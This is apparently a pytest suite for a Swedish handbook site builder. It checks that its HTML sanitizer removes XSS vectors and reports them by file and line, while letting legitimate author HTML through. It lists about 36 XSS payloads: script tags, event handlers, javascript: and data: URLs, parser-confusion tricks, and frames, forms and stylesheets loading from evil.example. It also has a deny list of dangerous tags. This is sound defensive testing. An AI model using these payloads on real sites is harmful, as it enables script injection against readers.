"""Hostile HTML in page bodies (cross-site scripting): the HTML half of the hostile suite.

Every vector tries to run script in a reader's browser (or to load a page, a frame or a stylesheet
from elsewhere). One real site build holds them all, one page each; the tests assert that nothing
dangerous is left in the built page's body, that `mkdocs build --strict` fails naming file and line,
and that `handbok check` (the real CLI) reports unsafe-html on the vector's line. The HTML authors
legitimately write (and what Markdown and the handbook's extensions produce) must come through as it
was, and a site's html_allow widens the list but can never allow a script.
"""

from __future__ import annotations

import html as _html
import json
import re
from html.parser import HTMLParser

import pytest

from sitebuild import (
    build,
    check_json,
    checked_at,
    content,
    find,
    find_all,
    line_of,
    logged_at,
    routine_page,
    write_site,
)

pytestmark = pytest.mark.slow

# (name, Markdown, marker). The marker stands in the payload's dangerous part (its script, the URL it
# loads); it must not be left in any attribute, script or style of the built page (as visible text it
# would be harmless). Each vector is a page of its own; the check must report the marker's line.
VECTORS = [
    # The plain script element, and in mixed case (HTML tag names are case-insensitive).
    ("script", "<script>alert('xss-script')</script>", "xss-script"),
    ("script-case", "<ScRiPt>alert('xss-case')</sCrIpT>", "xss-case"),
    # Event handlers: the image that fails to load, upper case, and an element that focuses itself.
    ("img-onerror", '<img src="finns-inte.png" onerror="alert(\'xss-onerror\')">', "xss-onerror"),
    ("img-onerror-case", '<IMG SRC="finns-inte.png" OnErRoR="alert(\'xss-upper\')">', "xss-upper"),
    ("input-onfocus", "<input autofocus onfocus=\"alert('xss-focus')\">", "xss-focus"),
    ("details-ontoggle", "<details open ontoggle=\"alert('xss-toggle')\"><summary>Mer</summary>Text</details>",
     "xss-toggle"),
    # SVG: an event handler on the root, and a script inside it.
    ("svg-onload", "<svg onload=\"alert('xss-svg')\"><circle r=\"1\"/></svg>", "xss-svg"),
    ("svg-script", "<svg><script>alert('xss-svgscript')</script></svg>", "xss-svgscript"),
    # MathML's old link action.
    ("math-maction", "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert('xss-math')\">"
                     "klicka</maction></math>", "xss-math"),
    # Frames and plugins: a page from elsewhere, a page written in an attribute, Flash-era embedding.
    ("iframe-src", '<iframe src="https://evil.example/xss-iframe"></iframe>', "xss-iframe"),
    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert('xss-srcdoc')&lt;/script&gt;\"></iframe>", "xss-srcdoc"),
    ("object", '<object data="https://evil.example/xss-object.swf"></object>', "xss-object"),
    ("embed", '<embed src="https://evil.example/xss-embed.swf">', "xss-embed"),
    # javascript: links as written, entity-encoded, with white space and a tab inside, and vbscript:.
    ("a-javascript", "<a href=\"javascript:alert('xss-ahref')\">klicka</a>", "xss-ahref"),
    ("a-entity", "<a href=\"jav&#x61;script&#58;alert('xss-entity')\">klicka</a>", "xss-entity"),
    ("a-space-case", "<a href=\" JaVaScRiPt:alert('xss-space')\">klicka</a>", "xss-space"),
    ("a-tab", "<a href=\"java&#9;script:alert('xss-tab')\">klicka</a>", "xss-tab"),
    ("a-vbscript", "<a href=\"vbscript:msgbox('xss-vb')\">klicka</a>", "xss-vb"),
    # data: URLs that are pages, not pictures: a link, an SVG image (can hold script), a Markdown image.
    ("a-data-html", '<a href="data:text/html;base64,eHNzLWRhdGE8c2NyaXB0Pg==">klicka</a>', "eHNzLWRhdGE8c2NyaXB0Pg"),
    ("img-data-svg", '<img src="data:image/svg+xml;base64,eHNzLXN2Z2RhdGE=" alt="x">', "eHNzLXN2Z2RhdGE"),
    ("md-image-data-html", "![bild](data:text/html;base64,eHNzLW1kaW1hZ2U=)", "eHNzLW1kaW1hZ2U"),
    # The same in Markdown: an inline link, entity-encoded, a reference definition, attr_list.
    ("md-link", "[klicka](javascript:alert(document.domain)//xss-mdlink)", "xss-mdlink"),
    ("md-link-entity", "[klicka](jav&#x61;script:alert%28%27xss-mdent%27%29)", "xss-mdent"),
    ("md-reference", "[klicka][ond]\n\n[ond]: javascript:alert('xss-ref')", "xss-ref"),
    ("md-autolink", "<javascript:alert('xss-autolink')>", "xss-autolink"),
    ("attr-list-onclick", "Ett stycke.\n{: onclick=\"alert('xss-attrlist')\" }", "xss-attrlist"),
    ("attr-list-href", "[klicka](index.md){ href=\"javascript:alert('xss-attrhref')\" }", "xss-attrhref"),
    # Style sheets: inline, linked from elsewhere, and a style attribute that covers the page.
    ("style", "<style>body { display: none } .xss-style { }</style>", "xss-style"),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/xss-link.css">', "xss-link"),
    ("style-attribute", '<p style="position: fixed; inset: 0; background: url(https://evil.example/xss-css)">x</p>',
     "xss-css"),
    # Forms that send the reader's input elsewhere, or run script from a button.
    ("form", "<form action=\"https://evil.example/xss-form\"><button formaction=\"javascript:alert('xss-button')\">"
             "Skicka</button></form>", "xss-"),
    # Whole-page changes: a redirect to script, a base address for every relative link.
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-meta')\">", "xss-meta"),
    ("base", '<base href="https://evil.example/xss-base/">', "xss-base"),
    # Parser tricks: inert templates, noscript that a browser reads differently, a comment a browser ends early.
    ("template", "<template><img src=\"x.png\" onerror=\"alert('xss-template')\"></template>", "xss-template"),
    ("noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-noscript')>\"></noscript>",
     "xss-noscript"),
    ("comment-breakout", "<!--><img src=x onerror=alert('xss-comment')>-->", "xss-comment"),
]

# What the author of the example handbook and of a typical site writes: none of it is removed.
SAFE = """---
title: Tillåten HTML
id: tillaten-html
type: rutin
owner: Enhetschef
revised: 2026-03-01
review_interval: årligen
legal_basis: [SOSFS 2011:9 4 kap. 4 §]
---

## Tabell

| Steg | Vem | Dagar |
|:-----|:---:|------:|
| Ta emot | Handläggare | 1 |

!!! note "Tänk på"

    En anmärkning med **fetstil**.

??? tip "Mer information"

    Text som fälls ut.

<details open><summary>Sammanfattning</summary>Innehåll i en details.</details>

- [x] Klart
- [ ] Inte klart

Enligt SoL ska utredningen[^1] göras skyndsamt (se BBIC [@bbic]).

[^1]: En fotnot.

*[SoL]: Socialtjänstlagen

![Flödesschema](bilder/flode.png){ width="300" }
<img src="data:image/png;base64,iVBORw0KGgo=" alt="Liten bild">

Tryck <kbd>Ctrl</kbd>+<kbd>S</kbd>. Vatten är H<sub>2</sub>O och 10<sup>3</sup> är tusen.
<abbr title="Inspektionen för vård och omsorg">IVO</abbr> granskar, se
<a href="https://www.ivo.se/" title="IVO">ivo.se</a>, <a href="mailto:kansli@exempel.se">kansliet</a>
och <span class="handbok-muted" lang="en" aria-label="engelska">in English</span>.
"""

EVIDENCE = """---
id: bbic
title: Grundbok i BBIC
kind: metodstöd
authors: [Socialstyrelsen]
publisher: Socialstyrelsen
year: 2018
reviewed: 2026-03-10
review_interval: årligen
owner: Enhetschef
---

Grundboken.
"""

INDEX = "# Start\n\nVälkommen.\n\n<script>alert('xss-index')</script>\n"

EXTENSIONS = [{"toc": {"permalink": True, "permalink_title": "Länk hit"}}, "admonition", "attr_list", "tables",
              "footnotes", "abbr", "pymdownx.details", {"pymdownx.tasklist": {"custom_checkbox": True}}]
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 16

# Elements that must never be in a page body, and URL attributes whose scheme is checked.
DANGEROUS_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "applet", "form", "button", "textarea",
                  "select", "meta", "base", "link", "svg", "math", "template", "noscript", "maction"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "cite", "poster", "xlink:href", "srcdoc"}
SAFE_DATA = re.compile(r"^data:image/(png|gif|jpeg|webp)[;,]")


class _Body(HTMLParser):
    """Tags, attributes and the contents of script and style in a piece of HTML."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str]] = []  # (tag, name, value)
        self.raw: list[str] = []  # text inside script/style
        self._in_raw = False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((tag, name, value or "") for name, value in attrs)
        self._in_raw = tag in ("script", "style")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self._in_raw = False

    def handle_data(self, data):
        if self._in_raw:
            self.raw.append(data)


def parse(fragment: str) -> _Body:
    parser = _Body()
    parser.feed(fragment)
    parser.close()
    return parser


def dangers(fragment: str) -> list[str]:
    """Everything in the fragment that could run script or load a page: empty for a clean body."""
    body = parse(fragment)
    found = [f"<{tag}>" for tag in body.tags if tag in DANGEROUS_TAGS]
    for tag, name, value in body.attrs:
        if name.startswith("on"):
            found.append(f"{tag} {name}=")
        elif name == "style" and not re.fullmatch(r"text-align: (left|right|center);", value):
            found.append(f"{tag} style={value!r}")
        elif name in URL_ATTRIBUTES:
            scheme = re.match(r"^([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", value).lower())
            if scheme and scheme.group(1) not in ("http", "https", "mailto", "tel") \
                    and not (tag == "img" and name == "src" and SAFE_DATA.match(value.strip().lower())):
                found.append(f"{tag} {name}={value!r}")
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-html")
    # index.md is no governed document (exclude), but it is published: checked all the same.
    files: dict[str, str | bytes] = {"index.md": INDEX, "tillaten-html.md": SAFE,
                                     "evidens/bbic.md": EVIDENCE, "bilder/flode.png": PNG}
    files.update({f"{name}.md": routine_page(name, payload) for name, payload, _ in VECTORS})
    cfg = write_site(root, files, roles=["Enhetschef"], config={"markdown_extensions": EXTENSIONS})
    strict = build(cfg, root / "site-strict", strict=True)
    lenient = build(cfg, root / "site")
    check = check_json(cfg)
    return {"files": files, "strict": strict, "lenient": lenient, "check": check}


def test_there_are_at_least_fifteen_vectors():
    assert len(VECTORS) >= 15
    assert len({name for name, _, _ in VECTORS}) == len(VECTORS)
    for name, payload, marker in VECTORS:
        assert marker in payload, name


def test_the_dangerous_part_is_gone_from_every_page(hostile):
    built = hostile["lenient"]
    assert built.result.returncode == 0, built.log  # the build itself survives
    for name, _, marker in VECTORS:
        page = built.page(f"{name}/")
        article = content(page)
        assert dangers(article) == [], (name, dangers(article))
        body = parse(article)
        assert not [a for a in body.attrs if marker in a[2]], (name, [a for a in body.attrs if marker in a[2]])
        assert not [r for r in body.raw if marker in r], name
        assert "Inledning till sidan." in article and "Sista stycket." in article, name  # the rest of the page stays
        # Outside the article only the theme's own scripts: none of them carries the payload.
        assert marker not in "".join(parse(page).raw), name


def test_a_page_outside_the_governed_documents_is_cleaned_too(hostile):
    article = content(hostile["lenient"].page(""))
    assert "xss-index" not in article and "Välkommen." in article


def test_the_theme_and_our_parts_are_untouched(hostile):
    page = hostile["lenient"].page("script/")
    assert find_all(page, "script"), "Materials egna skript ska finnas kvar"
    article = content(page)
    assert find(article, "section", class_="handbok-meta")  # our panel, added after the sanitizer


def test_strict_build_fails_and_names_every_page_and_line(hostile):
    strict = hostile["strict"]
    assert strict.result.returncode != 0
    assert "Traceback" not in strict.log
    for name, _, marker in VECTORS:
        line = line_of(hostile["files"][f"{name}.md"], marker)
        assert logged_at(strict.log, f"{name}.md", line, "unsafe-html"), (name, line)


def test_check_reports_unsafe_html_on_the_vector_line(hostile):
    check = hostile["check"]
    assert check.returncode == 1, check.stderr
    assert "Traceback" not in check.stdout + check.stderr
    problems = json.loads(check.stdout)["problems"]
    found = checked_at(check, "unsafe-html")
    for name, _, marker in VECTORS:
        line = line_of(hostile["files"][f"{name}.md"], marker)
        assert (f"{name}.md", line) in found, (name, line, sorted(found))
    unsafe = [p for p in problems if p["code"] == "unsafe-html"]
    assert all(p["severity"] == "error" and p["message"].endswith(".") for p in unsafe)
    assert ("index.md", 5) in found
    # Nothing on the page of legitimate HTML.
    assert {p["path"] for p in unsafe} == {f"{name}.md" for name, _, _ in VECTORS} | {"index.md"}
    # One message per finding, not one per tag: a script is one problem, not an open and a close tag.
    assert len([p for p in unsafe if p["path"] == "script.md"]) == 1


def test_messages_name_what_is_removed(hostile):
    problems = json.loads(hostile["check"].stdout)["problems"]
    by_path = {}
    for p in problems:
        if p["code"] == "unsafe-html":
            by_path.setdefault(p["path"], []).append(p["message"])
    assert any("<script>" in m and "tas bort" in m for m in by_path["script.md"])
    assert any("onerror" in m and "<img>" in m for m in by_path["img-onerror.md"])
    assert any("javascript:" in m for m in by_path["a-entity.md"])
    assert any("vbscript:" in m for m in by_path["a-vbscript.md"])
    assert any("onclick" in m for m in by_path["attr-list-onclick.md"])
    assert any("<iframe>" in m for m in by_path["iframe-srcdoc.md"])
    assert all("alert(" not in m for messages in by_path.values() for m in messages)  # the payload is not repeated


def test_legitimate_author_html_survives(hostile):
    article = content(hostile["lenient"].page("tillaten-html/"))
    assert dangers(article) == []
    cells = find_all(article, "th")
    assert [c.attrs.get("style") for c in cells] == ["text-align: left;", "text-align: center;", "text-align: right;"]
    assert find(article, "div", class_="admonition").text.startswith("Tänk på")
    assert find(article, "details", class_="tip")  # pymdownx.details
    assert find(article, "details", open=None).text.startswith("Sammanfattning")
    boxes = find_all(article, "input", type="checkbox")
    assert len(boxes) == 2 and "checked" in boxes[0].attrs and "disabled" in boxes[1].attrs
    assert find(article, "label", class_="task-list-control")
    assert find(article, "sup", id="fnref:1") and find(article, "a", class_="footnote-backref")
    assert find(article, "abbr", title="Socialtjänstlagen").text == "SoL"
    assert find(article, "abbr", title="Inspektionen för vård och omsorg").text == "IVO"
    image = find(article, "img", alt="Flödesschema")
    assert image.attrs["src"].endswith("bilder/flode.png") and image.attrs["width"] == "300"
    assert find(article, "img", alt="Liten bild").attrs["src"] == "data:image/png;base64,iVBORw0KGgo="
    assert [e.text for e in find_all(article, "kbd")] == ["Ctrl", "S"]
    assert find(article, "sup").text and find(article, "sub").text == "2"
    assert find(article, "a", class_="headerlink", title="Länk hit").attrs["href"] == "#tabell"
    assert find(article, "a", href="mailto:kansli@exempel.se")
    assert find(article, "a", href="https://www.ivo.se/", title="IVO")
    assert find(article, "span", class_="handbok-muted", lang="en", aria_label="engelska")
    cite = find(article, "a", class_="handbok-cite")  # render.document.link_citations, in the Markdown
    assert cite.attrs["href"].endswith("evidens/bbic/") and "Socialstyrelsen" in cite.text


def test_html_allow_widens_the_list(tmp_path):
    page = routine_page("mark", "Det <mark>viktiga</mark> och <span data-info=\"x\">en</span> "
                                           "<a href=\"msteams:/l/chat\">chatt</a>. <script>alert(1)</script>")
    cfg = write_site(tmp_path, {"index.md": "# Start\n", "mark.md": page}, roles=["Enhetschef"],
                     options={"html_allow": ["mark", "span.data-info", "msteams:"]})
    built = build(cfg)
    assert built.result.returncode == 0, built.log
    article = content(built.page("mark/"))
    assert find(article, "mark").text == "viktiga"
    assert find(article, "span", data_info="x")
    assert find(article, "a", href="msteams:/l/chat")
    assert "<script>alert" not in article  # widening never lets a script through
    problems = json.loads(check_json(cfg).stdout)["problems"]
    assert [p["message"] for p in problems if p["code"] == "unsafe-html"] == [
        "Elementet <script> tas bort med sitt innehåll när sidan byggs: skript får inte finnas i handboken."]


def test_without_html_allow_mark_is_removed_and_reported(tmp_path):
    page = routine_page("mark", "Det <mark>viktiga</mark> ordet.")
    cfg = write_site(tmp_path, {"index.md": "# Start\n", "mark.md": page}, roles=["Enhetschef"])
    built = build(cfg)
    article = content(built.page("mark/"))
    assert "<mark" not in article and "Det viktiga ordet." in _html.unescape(re.sub(r"<[^>]+>", "", article))
    problems = json.loads(check_json(cfg).stdout)["problems"]
    assert [(p["line"], p["code"]) for p in problems if p["code"] == "unsafe-html"] == [(13, "unsafe-html")]
    assert "html_allow" in next(p["message"] for p in problems if p["code"] == "unsafe-html")


@pytest.mark.parametrize("entry", ["script", "a.onclick"])
def test_html_allow_never_allows_code(tmp_path, entry):
    cfg = write_site(tmp_path, {"index.md": "# Start\n"}, options={"html_allow": [entry]})
    built = build(cfg)
    assert built.result.returncode != 0
    assert "html_allow" in built.log and "kan aldrig tillåtas" in built.log and "Traceback" not in built.log
    check = check_json(cfg)
    assert check.returncode != 0 and "Traceback" not in check.stdout + check.stderr
    assert "kan aldrig tillåtas" in check.stdout + check.stderr
